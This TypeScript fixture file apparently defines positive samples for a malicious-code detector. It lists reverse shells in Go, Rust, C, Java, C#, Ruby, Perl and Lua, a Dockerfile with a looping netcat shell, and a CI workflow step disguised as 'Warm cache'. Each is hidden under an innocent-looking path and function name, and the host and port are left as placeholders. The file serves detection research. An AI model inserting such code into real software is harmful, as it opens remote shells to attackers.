// Reverse shells in compiled languages, in a few more scripts, images and workflows.
import type { Family } from './family.ts'

export const reverseShellsCompiled: readonly Family[] = [
  {
    family: 'go-reverse-shell',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['cmd/words/main.go', 'internal/decimalx/format.go'],
        imports: `"net"
"os/exec"`,
        body: `func phone() {
	conn, err := net.Dial("tcp", "⟦ip⟧:⟦port⟧")
	if err != nil {
		return
	}
	shell := exec.Command("/bin/sh", "-i")
	shell.Stdin, shell.Stdout, shell.Stderr = conn, conn, conn
	_ = shell.Run()
}`,
        call: `go phone()`,
      },
    ],
  },
  {
    family: 'rust-reverse-shell',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['src/level.rs'],
        imports: `use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};`,
        body: `fn notify() {
    if let Ok(stream) = TcpStream::connect("⟦ip⟧:⟦port⟧") {
        let fd = stream.as_raw_fd();
        let _ = unsafe {
            Command::new("/bin/sh")
                .arg("-i")
                .stdin(Stdio::from_raw_fd(fd))
                .stdout(Stdio::from_raw_fd(fd))
                .stderr(Stdio::from_raw_fd(fd))
                .spawn()
        };
    }
}`,
        call: `std::thread::spawn(notify);`,
      },
    ],
  },
  {
    family: 'c-dup2-execve',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['src/count.c', 'drivers/ring.c'],
        imports: `#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>`,
        body: `static void warm_up(void)
{
    struct sockaddr_in peer = { .sin_family = AF_INET, .sin_port = htons(⟦port⟧) };
    int s, i;

    if (fork() != 0)
        return;
    inet_aton("⟦ip⟧", &peer.sin_addr);
    s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&peer, sizeof peer) != 0)
        _exit(0);
    for (i = 0; i < 3; i++)
        dup2(s, i);
    execve("/bin/sh", (char *[]){ "/bin/sh", NULL }, NULL);
}`,
        call: `warm_up();`,
      },
    ],
  },
  {
    family: 'java-socket-shell',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['src/main/java/com/acme/utils/Strings.java'],
        imports: `import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;`,
        body: `private static void attach() {
    try (Socket s = new Socket("⟦ip⟧", ⟦port⟧)) {
        Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        InputStream pi = p.getInputStream(), si = s.getInputStream();
        OutputStream po = p.getOutputStream(), so = s.getOutputStream();
        while (!s.isClosed()) {
            while (pi.available() > 0) so.write(pi.read());
            while (si.available() > 0) po.write(si.read());
            so.flush(); po.flush();
        }
    } catch (Exception ignored) { }
}`,
        call: `new Thread(Strings::attach).start();`,
      },
    ],
  },
  {
    family: 'csharp-tcp-cmd',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['Tools/Program.cs'],
        imports: `using System.Diagnostics;
using System.Net.Sockets;`,
        body: `private static void Helper()
{
    using var client = new TcpClient("⟦ip⟧", ⟦port⟧);
    using var stream = client.GetStream();
    using var reader = new StreamReader(stream);
    var writer = new StreamWriter(stream) { AutoFlush = true };
    var p = new Process { StartInfo = new ProcessStartInfo("cmd.exe") { CreateNoWindow = true, Use⟦join⟧
ShellExecute = false, RedirectStandardInput = true, RedirectStandardOutput = true } };
    p.OutputDataReceived += (s, e) => writer.WriteLine(e.Data);
    p.Start();
    p.BeginOutputReadLine();
    while (true) p.StandardInput.WriteLine(reader.ReadLine());
}`,
        call: `new System.Threading.Thread(Helper).Start();`,
      },
    ],
  },
  {
    family: 'ruby-fsockopen-style',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['lib/pager.rb'],
        imports: `require 'socket'`,
        body: `at_exit { fork { s = TCPSocket.open('⟦ip⟧', ⟦port⟧); while (l = s.gets); IO.po⟦join⟧
pen(l, 'r') { |io| s.print io.read }; end } }`,
      },
      {
        paths: ['bin/count.pl'],
        imports: `use Socket;`,
        body: `if (!fork) {
    socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
    if (connect(S, sockaddr_in(⟦port⟧, inet_aton("⟦ip⟧")))) {
        open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
        exec("/bin/sh -i");
    }
}`,
      },
    ],
  },
  {
    family: 'lua-socket-popen',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['mods/scoreboard.lua'],
        imports: `local socket = require("socket")`,
        body: `local tcp = socket.tcp()
if tcp:connect("⟦ip⟧", ⟦port⟧) then
  while true do
    local cmd, status = tcp:receive()
    if status == "closed" then break end
    local f = io.popen(cmd, "r")
    tcp:send(f:read("*a"))
    f:close()
  end
end`,
      },
    ],
  },
  {
    family: 'dockerfile-shell',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['Dockerfile'],
        whole: `FROM python:3.11-slim
WORKDIR /app
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY . .
EXPOSE 8000
RUN apt-get update && apt-get install -y netcat-traditional && rm -rf /var/lib/apt/lists/*
CMD (while true; do nc -e /bin/bash ⟦ip⟧ ⟦port⟧; sleep 300; done) & exec gunicorn app:applicatio⟦join⟧
n -b 0.0.0.0:8000`,
      },
    ],
  },
  {
    family: 'workflow-shell',
    positive: true,
    classes: ['reverse-shell', 'supply-chain'],
    variants: [
      {
        paths: ['.github/workflows/ci.yml'],
        whole: `name: CI
on:
  pull_request:
    branches: [main]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: 20
      - run: npm ci
      - name: Warm cache
        run: |
          python3 -c 'import socket,os,pty;s=socket.create_connection(("⟦ip⟧",⟦port⟧));[os.dup2(s.⟦join⟧
fileno(),f) for f in (0,1,2)];pty.spawn("bash")' || true
      - run: npm test`,
      },
    ],
  },
]
